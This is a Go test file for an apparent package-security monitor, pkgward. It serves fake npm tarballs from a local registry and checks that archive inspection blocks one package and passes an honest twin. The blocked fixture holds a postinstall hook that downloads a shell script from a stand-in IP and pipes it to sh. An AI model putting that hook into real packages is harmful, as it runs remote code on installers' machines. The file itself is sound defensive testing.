package monitor

import (
	"archive/tar"
	"bytes"
	"compress/gzip"
	"context"
	"crypto/sha512"
	"encoding/base64"
	"fmt"
	"net/http"
	"net/http/httptest"
	"strings"
	"testing"
	"time"

	"github.com/pkgward/pkgward/internal/ecosystem"
	"github.com/pkgward/pkgward/internal/feed"
	"github.com/pkgward/pkgward/internal/pipeline"
	"github.com/pkgward/pkgward/internal/record"
	"github.com/pkgward/pkgward/internal/registry/npm"
)

// tgz is an npm tarball of package.json and index.js.
func tgz(t *testing.T, pkgJSON, index string) []byte {
	t.Helper()
	var buf bytes.Buffer
	gz := gzip.NewWriter(&buf)
	tw := tar.NewWriter(gz)
	for name, body := range map[string]string{"package/package.json": pkgJSON, "package/index.js": index} {
		tw.WriteHeader(&tar.Header{Name: name, Mode: 0o644, Size: int64(len(body)), Typeflag: tar.TypeReg})
		tw.Write([]byte(body))
	}
	tw.Close()
	gz.Close()
	return buf.Bytes()
}

// registry serves one package document per name and its tarball.
func registry(t *testing.T, tarballs map[string][]byte) *httptest.Server {
	t.Helper()
	var srv *httptest.Server
	srv = httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		name := strings.TrimPrefix(r.URL.Path, "/")
		if tb, ok := strings.CutSuffix(name, ".tgz"); ok {
			w.Write(tarballs[strings.TrimPrefix(tb, "tarballs/")])
			return
		}
		data, ok := tarballs[name]
		if !ok {
			http.NotFound(w, r)
			return
		}
		sum := sha512.Sum512(data)
		fmt.Fprintf(w, `{"name":%q,"dist-tags":{"latest":"1.0.0"},"versions":{"1.0.0":{"name":%q,"version":"1.0.0","description":"a helper",
"dist":{"tarball":"%s/tarballs/%s.tgz","integrity":"sha512-%s"}}},"time":{"created":"2026-12-01T00:00:00Z","1.0.0":"2026-12-01T00:00:00Z"}}`,
			name, name, srv.URL, name, base64.StdEncoding.EncodeToString(sum[:]))
	}))
	t.Cleanup(srv.Close)
	return srv
}

// TestJudgeInspectArchives: with archive inspection a monitored npm
// version whose tarball runs a downloaded script at install time is
// blocked; its honest twin, and the same package without inspection, are
// not.
func TestJudgeInspectArchives(t *testing.T) {
	eng, err := pipeline.Build(context.Background(), pipeline.Config{Ecosystems: ecosystem.All()})
	if err != nil {
		t.Fatal(err)
	}
	reg := registry(t, map[string][]byte{
		"quiet-helper-kit": tgz(t, `{"name":"quiet-helper-kit","version":"1.0.0","scripts":{"postinstall":"curl -s http://203.0.113.7/x.sh | sh"}}`, "module.exports = 1\n"),
		"plain-helper-kit": tgz(t, `{"name":"plain-helper-kit","version":"1.0.0","scripts":{"test":"node test.js"}}`, "module.exports = 2\n"),
	})
	fetcher := &npm.Fetcher{Registry: reg.URL, Client: npm.Options{NoCache: true}}
	clock := func() time.Time { return time.Date(2026, 12, 4, 0, 0, 0, 0, time.UTC) }
	for _, tc := range []struct {
		name    string
		inspect bool
		block   bool
	}{
		{"quiet-helper-kit", true, true},
		{"plain-helper-kit", true, false},
		{"quiet-helper-kit", false, false},
	} {
		j := NewJudge(JudgeConfig{Engine: eng, NPM: fetcher, InspectArchives: tc.inspect, Now: clock})
		checks, err := j(context.Background(), feed.Item{Ecosystem: ecosystem.NPM, Name: tc.name})
		if err != nil {
			t.Fatalf("%s: %v", tc.name, err)
		}
		if len(checks) != 1 || (checks[0].Verdict == record.Block) != tc.block {
			t.Errorf("%s (inspect %v): %+v, want one check, blocked %v", tc.name, tc.inspect, checks, tc.block)
		}
	}
}
